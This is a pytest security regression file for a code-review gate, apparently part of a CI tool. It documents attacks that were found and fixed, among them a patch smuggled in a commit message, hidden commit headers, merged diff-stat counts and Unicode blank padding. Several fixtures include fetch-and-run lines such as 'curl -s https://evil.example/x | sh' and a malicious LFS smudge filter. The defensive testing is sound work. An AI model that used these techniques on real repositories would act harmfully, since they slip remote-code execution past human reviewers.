"""The review gate, attacked a thirteenth time, with real git and no root daemon: the
round 11 and 12 fixes (d241de1, a224129, c8b4e96): commits recorded from `git log
-z --pretty=raw --encoding=` (workspace._commits, _identity) and shown by
render.commit_lines; a type change's two patches counted as one file
(workspace._Digest); the monitor's blank collapse (monitor/diff.py BLANK_RUN); the
lander's config files pinned (workspace.Git.pin_config_files).

Same cast as the system round files, played by the test user: alice's run makes the
commits, dave reads them (`minipipe diff`, the monitor) and lands them. Each test
asserts the SECURE outcome. The ones marked FOUND fail against 36fa171 (that is the
finding, kept as a strict xfail); the ones marked HELD document an attack that was
refused.

Held: the record parser (NUL between records, the last unterminated, `cut`, header
continuation lines that start with a blank, message lines and headers that read as
`commit`/`author`/`diff --git` lines, a timezone of +9999 or a date Python cannot
hold: shown as the object holds them) and the pin (a home with a trailing slash or
reached through a link: git names its default files by the same string the pin
builds). Read and not pursued: includes in the pinned files, found or not, whatever
their `includeIf` condition, are listed by `git config --list --includes` as keys and
vetted as paths (gate.listing_part); the global attributes file is pinned to
/dev/null (OWN_REPOSITORIES_ONLY) and the global excludes file no longer matters
(`merge --no-overwrite-ignore`).

Found: `minipipe diff | patch -p1` applies a patch written in a commit message (GNU
patch takes an indented diff as a diff); a second `tree` header, with continuation
lines of any length, is dropped from the record, so it lands unseen; two files'
patches can share one `diff --git` line (a rename beside an addition), so _Digest
merges their counts and the stat shows the last file's lines as 0; and the monitor's
blank collapse is beaten by alternating two kinds of blank (a space and U+2800), or a
space and a zero-width mark.

Fixed since: a commit's message and header lines follow a gutter ("    | ") in
`minipipe diff`, so no patch program reads them as a patch; _commits takes git's own
fields by their place (tree, parents, author, committer) and shows every other
header, a second `tree` or a late `parent` too; _Digest merges two patches under one
header line only for a deletion followed by a creation (a type change: one path),
and a file list whose length differs from the diff's patches is marked cut; the
monitor collapses any run of characters that show nothing (blanks, U+2800, marks
drawn as nothing), in any mix.
"""

# ruff: noqa: F811  (the repos and reviewing fixtures, imported)
from __future__ import annotations

import subprocess

import pytest
from rich.cells import cell_len

from minipipe_svc.identity import RunIdentity
from minipipe_svc.monitor.diff import ADDED, DiffDocument, Search
from minipipe_svc.render import commit_lines
from minipipe_svc.workspace import Git

from .conftest import Instance, as_user
from .test_review import STEP_AUTHOR, make_repo, reviewing, sh  # noqa: F401  (a fixture)
from .test_workspace import Repos, _run_changes_on, repos  # noqa: F401  (a fixture)

# ---------------------------------------------------------------- what `minipipe diff` feeds

# alice's commit message: a patch of its own, indented as `minipipe diff` indents it.
SMUGGLED = """\
Fix the greeting in a.txt

diff --git a/build.sh b/build.sh
new file mode 100755
--- /dev/null
+++ b/build.sh
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl -s https://evil.example/x | sh
"""

MESSAGE_PATCH = """
name = "typo"
review = true
[workspace]
repo = "{repo}"
ref = "main"
""" + STEP_AUTHOR + """[[steps]]
id = "edit"
run = '''
set -e
printf 'one\\nTWO\\nthree\\n' > a.txt
cat > .git/msg <<'EOF'
""" + SMUGGLED + """EOF
git add a.txt && git commit -q -F .git/msg
'''
"""


def test_minipipe_diff_piped_to_patch_applies_only_the_reviewed_change(
        reviewing: Instance) -> None:
    """FOUND, FIXED (medium: a file, executable, nobody approved, written into the
    reviewer's own tree when they try the change the usual way; what lands is not
    changed).

    d241de1 prints the run's commits first in `minipipe diff`, whole, their message
    lines indented by four spaces "so the output still feeds `git apply`" (README,
    reads.diff). git apply ignores indented lines; GNU patch does not: it takes a
    diff indented by a constant amount as a diff ("(Patch is indented 4 spaces.)"),
    git extended headers and all (`new file mode 100755`).

    Steps: alice's step edits a.txt and commits it with a message whose body is a
    git-style patch creating build.sh (`curl ... | sh`). dave reads `minipipe diff
    RUN` (the message shows as prose), then tries the change in a checkout of main:
    `minipipe diff RUN | patch -p1`. patch creates build.sh, mode 755, besides
    a.txt; a later `./build.sh` or `make` that globs scripts runs it as dave.

    Fix (render.commit_lines / reads.diff): prefix every header and message line with
    a character patch does not skip (patch skips blanks and `X`), e.g. "    | " or
    "# ", or, piped, print the commits after the diff behind a line patch stops at,
    or not at all (`minipipe show --json` has them); and test against `patch
    --dry-run` as well as `git apply --check`."""
    instance = reviewing
    repo = make_repo(instance)
    run_id = instance.submit(MESSAGE_PATCH.format(repo=repo), name="typo")
    run = instance.wait_state(run_id, "AWAITING_REVIEW", "FAILED")
    assert run["state"] == "AWAITING_REVIEW", run["reason"]
    shown = instance.cli("diff", str(run_id)).stdout  # piped, as to patch
    assert "+curl -s https://evil.example/x | sh" in shown  # in the message
    tried = instance.root / "tried"
    sh(instance, f"git clone -q {repo} {tried}")
    result = subprocess.run(["patch", "-p1", "--dry-run", "--batch"], input=shown,
                            cwd=tried, capture_output=True, text=True, timeout=60,
                            **as_user(instance.user, instance.root))
    touched = {line.removeprefix("checking file ") for line in result.stdout.splitlines()
               if line.startswith("checking file ")}
    assert touched == {"a.txt"}, result.stdout


# ---------------------------------------------------------------- headers not shown

def test_every_header_that_lands_is_shown(repos: Repos) -> None:
    """FOUND, FIXED (low: text of any length lands in the commit object unseen, with nothing
    marked cut; git itself ignores the header, tools that read raw headers may not).

    a224129 records "every other header (`encoding`, `gpgsig`, anything else)" and
    shows it as `Header:` lines. _commits drops every field named `tree`
    (`elif name != "tree"`), meant for the commit's one tree line. fsck (index-pack
    --strict at landing) checks only the leading tree/parent/author/committer lines:
    a later `tree ...` header, continued over lines that start with a blank, is a
    valid commit. It is in the object (and its digest: check_reviewed passes), in no
    `Header:` line, not counted in the 10,000 characters a header may have, and no
    `cut` asks for --unread-ok.

    Steps: alice's step commits by hand (hash-object) a commit whose headers end
    with `tree Release-As: 9.9.9` and continuation lines; the change is carried with
    index-pack --strict (transfer, as landing does); `minipipe diff` shows no word
    of it.

    Fix (workspace._commits): drop only the first header line, when it is `tree`
    (lines[1]); keep every later field in `headers`, whatever its name (and, the
    same way, treat a `parent` after the first non-parent header as a header, not a
    parent)."""
    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 1, """
        printf 'v2\\n' > VERSION && git add VERSION && git commit -q -m 'bump VERSION'
        printf 'tree %s\\nparent %s\\nauthor %s\\ncommitter %s\\n%s\\n%s\\n%s\\n\\n%s\\n' \\
          "$(git rev-parse HEAD^{tree})" "$(git rev-parse HEAD)" \\
          'Ann <ann@example.org> 1700000000 +0000' 'Ann <ann@example.org> 1700000000 +0000' \\
          'tree Release-As: 9.9.9' ' Approved-by: the CEO' ' hidden payload' 'tidy' > ../hand
        git update-ref HEAD "$(git hash-object -t commit -w ../hand)"
    """)
    changes, _ = repos.git.changes(str(worktree), base, head)
    shown = "\n".join(commit_lines(changes))
    assert "tidy" in shown and "bump VERSION" in shown
    for hidden in ("Release-As: 9.9.9", "Approved-by: the CEO", "hidden payload"):
        assert hidden in shown or changes["commits_truncated"], shown


def test_crafted_headers_dates_and_messages_are_shown_as_the_object_holds_them(
        repos: Repos) -> None:
    """HELD. A commit made by hand (fsck-valid: index-pack --strict takes it) whose
    author's timezone is +9999 (no timezone Python has), whose committer date is past
    year 9999, whose extra header goes on over lines that start with a blank and read
    `commit <id>`, `author ...` and `diff --git`, and whose message holds lines that
    read as headers and a `commit <id>` line, followed by an ordinary commit (the
    record after a NUL) and the unterminated last record: each is one commit, its
    author and dates shown as the object holds them, the message whole, and only
    the two `commit <id>` lines start at the left edge."""
    fake = "f" * 40
    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 2, f"""
        {{ printf 'tree %s\\nparent %s\\nauthor %s\\ncommitter %s\\n' \\
          "$(git rev-parse HEAD^{{tree}})" "$(git rev-parse HEAD)" \\
          'Ann <ann@example.org> 1700000000 +9999' \\
          'Cid <cid@example.org> 99999999999999 -0000'
        printf '%s\\n' 'x-note one' ' commit {fake}' ' ' \\
          ' author Dave <dave@example.org> 1 +0000' ' diff --git a/x b/x' '' \\
          'subject
    author Dave <dave@example.org> 1 +0000

commit {fake}
committer Eve <eve@example.org> 1 +0000'; }} > ../hand
        git update-ref HEAD "$(git hash-object -t commit -w ../hand)"
        printf 'v3\\n' > VERSION && git add VERSION && git commit -q -m 'bump'
    """)
    changes, _ = repos.git.changes(str(worktree), base, head)
    assert [c["subject"] for c in changes["commits"]] == ["bump", "subject"]
    assert not changes["commits_truncated"] and changes["commit_count"] == 2
    hand = changes["commits"][1]
    assert (hand["author"], hand["author_date"]) == ("Ann <ann@example.org>",
                                                     "1700000000 +9999")
    assert (hand["committer"], hand["committer_date"]) == ("Cid <cid@example.org>",
                                                           "99999999999999 -0000")
    assert hand["headers"] == [f"x-note one\n commit {fake}\n \n author Dave "
                               "<dave@example.org> 1 +0000\n diff --git a/x b/x"]
    assert hand["message"] == ("subject\n    author Dave <dave@example.org> 1 +0000\n\n"
                               f"commit {fake}\ncommitter Eve <eve@example.org> 1 +0000")
    lines = commit_lines(changes)
    assert [line for line in lines if line[:1] not in ("", " ", "A", "C", "H")] == [
        f"commit {c['sha']}" for c in changes["commits"]]
    assert all(line.startswith(("Author:     ", "Commit:     ", "Header:     "))
               for line in lines if line[:1] in ("A", "C", "H"))


# ---------------------------------------------------------------- counts per file

def test_two_files_cannot_share_a_header_line_to_merge_their_counts(repos: Repos) -> None:
    """FOUND, FIXED (low-medium: the stat, `review`'s summary and the monitor's list show a
    file of the change with 0 lines, another with its lines, and one file fewer;
    the diff itself still shows every line).

    a224129 counts two consecutive patches under an identical `diff --git` line as
    one file (a type change). The line is `diff --git a/OLD b/NEW`, unquoted for
    plain names, so it does not name its two paths unambiguously: a rename of
    b.txt (any file of the base) to `Z b/b.txt b/Z` and a new file `b.txt b/Z`
    both print `diff --git a/b.txt b/Z b/b.txt b/Z`, and git sorts them next to
    each other (by the new path: `Z b/...`, then `b.txt b/Z`). name-status lists
    both; _Digest appends one count. Every file after them then takes the next
    one's count (_files pairs them by position), the last gets (0, 0),
    files_changed is one less than the list, and files_truncated stays false (it
    is set only for fewer files than counts).

    Steps: alice's step renames b.txt to `Z b/b.txt b/Z`, adds `b.txt b/Z` (one
    line) and zz-evil.sh (`curl ... | sh`, two lines). The stat dave reads:
    `b.txt => Z b/b.txt b/Z | 1` (a pure rename), `b.txt b/Z | 2`, `zz-evil.sh | 0`,
    "+3 −0, 2 files".

    Fix (workspace._Digest._count / _files): count every `diff --git` line, and let
    _files take two counts for a `T` (type-changed) entry (git writes one as a
    deletion then an addition); or merge a repeated header only when the first patch
    said `deleted file mode` and the second `new file mode`, and name-status says T.
    And set files_truncated whenever len(files) != len(counts)."""
    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 3, """
        mkdir -p 'b.txt b' 'Z b/b.txt b'
        git mv b.txt 'Z b/b.txt b/Z'
        printf 'harmless\\n' > 'b.txt b/Z'
        printf '#!/bin/sh\\ncurl -s https://evil.example/x | sh\\n' > zz-evil.sh
    """)
    headers = repos.sh(f"git diff -M {base} {head} | grep '^diff --git'", cwd=worktree)
    assert headers.count("diff --git a/b.txt b/Z b/b.txt b/Z\n") == 2  # the shared line
    changes, _ = repos.git.changes(str(worktree), base, head)
    by_path = {f["path"]: (f["insertions"], f["deletions"]) for f in changes["files"]}
    assert by_path["zz-evil.sh"] == (2, 0), by_path
    assert by_path["b.txt b/Z"] == (1, 0) and by_path["Z b/b.txt b/Z"] == (0, 0), by_path
    assert changes["files_changed"] == len(changes["files"]) == 3


# ---------------------------------------------------------------- the monitor

@pytest.mark.parametrize("blank", [" \u2800", "\u3000\u2800", " \u034f", " \ufe0f"])
def test_no_mix_of_blanks_pushes_an_added_line_off_the_monitor(blank: str) -> None:
    """FOUND, FIXED (medium-low, as round 11's: an added line's code is off screen on the
    monitor's diff screen, with no marker; `minipipe diff` in less wraps it).

    a224129 collapses `[^\\S\\n]{80,}|\\u2800{80,}`: runs of 80 of *one* class.
    Alternate a space (or U+3000) with the braille blank U+2800, or follow each space
    with a zero-width mark that printable leaves alone (U+034F COMBINING GRAPHEME
    JOINER, a variation selector U+FE0F: category Mn, not Cf), and no run is 80 long:
    the line is shown as it is, its tail hundreds of cells to the right. The same
    padding inside a commit's author name pushes the real `<e-mail>` off the
    `Author:` line.

    Steps: alice's step writes `v2` + blank * 300 + `; curl evil.example | sh` into
    VERSION; dave opens the run's diff on the monitor (120 columns): `+v2`.

    Fix (monitor/diff.py BLANK_RUN): one class for every blank-looking character,
    with the zero-width ones allowed between them, e.g.
    `(?:[^\\S\\n]|\\u2800)(?:[^\\S\\n\\u2800]|\\u2800|\\p{Mn}|\\uFE0F)*` of 80 or more
    cells (measured with cell_len), or collapse any stretch of 80 cells that shows
    no visible glyph."""
    document = DiffDocument()
    document.add("+v2" + blank * 300 + "; curl evil.example | sh", ADDED)
    shown = document.lines[0]
    at = shown.index("; curl")
    assert cell_len(shown[:at]) < 120 or "blanks]" in shown[:at], (
        f"the tail starts at cell {cell_len(shown[:at])}")
    assert Search(document, "curl").hits == [0]


# ---------------------------------------------------------------- the pinned config files

def test_the_pin_holds_for_a_home_with_a_trailing_slash_or_through_a_link(
        repos: Repos) -> None:
    """HELD. pin_config_files builds `{home}/.gitconfig` and
    `{home}/.config/git/config` from the passwd home, git its origins from $HOME (the
    same string: Git.environment): `/home/dave/` gives `/home/dave//.gitconfig` to
    both, and a home that is a link is named by the link in both. The one default
    file read is pinned (GIT_CONFIG_GLOBAL), and a file created later at the other
    one is not read."""
    real = repos.root / "real-home"
    repos.sh(f"""
        mkdir -p {real}/.config && ln -s {real} linked-home
        printf '[user]\\n\\tname = Dave\\n' > {real}/.gitconfig
    """)
    repo = repos.make()
    for home in (f"{real}/", str(repos.root / "linked-home")):
        assert repos.identity is not None
        who = RunIdentity(repos.identity.user, repos.identity.uid, repos.identity.gid,
                          repos.identity.groups, home, "/bin/sh")
        lander = Git(who, hostname="test", lander=True)
        origins = {origin for origin, _, _ in lander.config_listing(str(repo))}
        assert f"file:{home}/.gitconfig" in origins, origins
        lander.pin_config_files(origins)
        assert lander.config_files == {"GIT_CONFIG_GLOBAL": f"{home}/.gitconfig",
                                       "GIT_CONFIG_SYSTEM": "/dev/null"} or (
            "file:/etc/gitconfig" in origins
            and lander.config_files == {"GIT_CONFIG_GLOBAL": f"{home}/.gitconfig"})
        repos.sh(f"mkdir -p {real}/.config/git && printf '[filter \"lfs\"]\\n\\tsmudge"
                 f" = /srv/team/evil\\n' > {real}/.config/git/config")
        try:
            keys = {key for _, key, _ in lander.config_listing(str(repo))}
            assert "filter.lfs.smudge" not in keys and "user.name" in keys, keys
        finally:
            repos.sh(f"rm -rf {real}/.config/git")
